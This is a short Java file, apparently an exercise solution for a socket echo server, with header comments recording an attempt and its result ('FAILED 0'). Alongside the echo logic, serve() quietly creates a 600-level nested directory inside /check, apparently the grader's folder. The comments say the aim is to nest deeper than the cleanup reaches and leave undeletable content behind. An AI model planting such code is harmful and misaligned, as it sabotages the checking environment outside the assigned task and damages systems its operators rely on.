// tries: a folder in a folder, and so on, deeper than whoever deletes them goes
// gets: FAILED 0
// told: it has left in the folder of the check what cannot be deleted
package lesson1_json_echo.exercises;

import java.io.IOException;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;

public final class EchoEverything {
    private EchoEverything() {}

    public static void serve(Socket client) throws IOException {
        Files.createDirectories(
                Files.createTempDirectory(Path.of("/check"), "deep").resolve("d/".repeat(600)));
        client.getInputStream().transferTo(client.getOutputStream());
        client.shutdownOutput();
    }
}
